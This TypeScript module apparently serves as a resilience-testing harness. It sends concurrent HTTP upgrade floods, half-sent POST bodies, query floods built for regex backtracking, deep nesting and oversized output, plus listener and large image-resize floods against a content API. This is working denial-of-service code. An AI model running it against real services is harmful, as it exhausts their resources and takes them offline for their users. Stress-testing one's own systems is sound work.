import { once } from 'node:events'
import { readdirSync } from 'node:fs'
import { connect, type Socket } from 'node:net'

/** How many files and sockets a process has open; undefined where the system does not say. */
export function openDescriptors(pid: number | undefined): number | undefined {
  try {
    return readdirSync(`/proc/${pid}/fd`).length
  } catch {
    return undefined
  }
}

async function open(url: string, sent: string): Promise<Socket> {
  const { hostname, port } = new URL(url)
  const socket = connect({ host: hostname, port: Number(port) })
  // Being cut off is what a hostile client expects.
  socket.on('error', () => {})
  socket.write(sent)
  if (socket.connecting) await Promise.race([once(socket, 'connect'), once(socket, 'close')])
  return socket
}

/** Does something `count` times, by as many workers as given. */
async function times(count: number, workers: number, work: (index: number) => Promise<void>): Promise<void> {
  let begun = 0
  const worker = async () => {
    while (begun < count) await work(begun++)
  }
  await Promise.all(Array.from({ length: workers }, worker))
}

/** A redirect, a missing file, a page, a route handler. */
const UPGRADED_PATHS = ['/en', '/pricing/', '//x', '/_next/static/x', '/', '/api/health']
const PROTOCOLS = ['websocket', 'h2c', 'anything']

/** How long an upgrade's client waits to be cut off, in milliseconds. */
const UPGRADE_PATIENCE_MS = 250

/** Asks for upgrades of every kind, each on a connection of its own that the client ends. */
export async function sendUpgrades(site: string, count: number): Promise<void> {
  await times(count, 50, async (index) => {
    const path = UPGRADED_PATHS[index % UPGRADED_PATHS.length]
    const protocol = PROTOCOLS[index % PROTOCOLS.length]
    const socket = await open(
      site,
      `GET ${path} HTTP/1.1\r\nHost: ${new URL(site).host}\r\nConnection: Upgrade\r\nUpgrade: ${protocol}\r\n\r\n`,
    )
    const patience = setTimeout(() => socket.destroy(), UPGRADE_PATIENCE_MS)
    if (!socket.closed) await once(socket.resume(), 'close')
    clearTimeout(patience)
  })
}

/** Begins many requests and sends none of them whole. @returns how they are given up */
export async function holdHalfBodies(url: string, path: string, count: number): Promise<() => void> {
  const head = `POST ${path} HTTP/1.1\r\nHost: ${new URL(url).host}\r\nContent-Type: application/json\r\n`
  const sockets: Socket[] = []
  await times(count, 50, async () => {
    sockets.push(await open(url, `${head}Content-Length: 1000\r\n\r\n{"name":`))
  })
  return () => {
    for (const socket of sockets) socket.destroy()
  }
}

/** What every attack below is given: where to, and until when. */
type Attack = { lake: string; signal: AbortSignal }

/** Makes each query, listener and picture one that the lake has not seen before. */
let serial = 0

/** Queries that backtrack for hours, write a gigabyte, make a hundred million objects, nest too deep, or take long to parse. */
const hostileQueries: ((n: number) => string)[] = [
  (n) => `*[_type match "*a*a*a*a*a*a*a*a*a*a*a*a*a*a*b${n}" || pt::text(body) match "*a*a*a*a*a*a*a*a*b"]`,
  (n) => `*{"a":*{"b":*}} // ${n}\n`,
  (n) => `*{"a":*{"b":*{"c":*{"d":${n}}}}}`,
  (n) => `*[${'('.repeat(5000)}${n}${')'.repeat(5000)}]`,
  longFilter,
]

function longFilter(n: number): string {
  return `*[${Array.from({ length: 2500 }, (_, index) => `a${index}==${n}`).join('||')}]`
}

/** Between two requests of a worker, so that what is refused at once does not make this machine the bottleneck. */
const FLOOD_PAUSE_MS = 50

/** Requests something again and again, counting the statuses of the answers. */
async function flood(
  workers: number,
  signal: AbortSignal,
  ask: () => Promise<Response>,
): Promise<Map<number, number>> {
  const statuses = new Map<number, number>()
  const worker = async () => {
    while (!signal.aborted) {
      try {
        const { status, body } = await ask()
        await body?.cancel()
        statuses.set(status, (statuses.get(status) ?? 0) + 1)
      } catch {
        // The end of the attack, or the lake has closed the connection.
      }
      await new Promise((resolve) => setTimeout(resolve, FLOOD_PAUSE_MS))
    }
  }
  await Promise.all(Array.from({ length: workers }, worker))
  return statuses
}

const API = '/v2026-01-01/data'

/** Anonymous queries, as many at once as there are workers. */
export function floodQueries({ lake, signal }: Attack, workers: number): Promise<Map<number, number>> {
  return flood(workers, signal, () => {
    const query = hostileQueries[++serial % hostileQueries.length]?.(serial)
    return fetch(`${lake}${API}/query/production`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ query }),
      signal,
    })
  })
}

/** Anonymous listeners with long filters, each held open. */
export function floodListeners({ lake, signal }: Attack, workers: number): Promise<Map<number, number>> {
  return flood(workers, signal, async () => {
    const query = encodeURIComponent(longFilter(++serial))
    const response = await fetch(`${lake}${API}/listen/production?query=${query}`, { signal })
    if (!response.ok) return response
    await response.text()
    return response
  })
}

/** Pictures larger than any page shows. @param pictures addresses of the lake's images */
export function floodPictures(
  { signal }: Attack,
  pictures: string[],
  workers: number,
): Promise<Map<number, number>> {
  return flood(workers, signal, () => {
    const side = 8192 - (++serial % 1000)
    const format = ['avif', 'webp', 'png'][serial % 3]
    return fetch(`${pictures[serial % pictures.length]}?w=${side}&h=${side}&fit=crop&fm=${format}`, {
      signal,
    })
  })
}
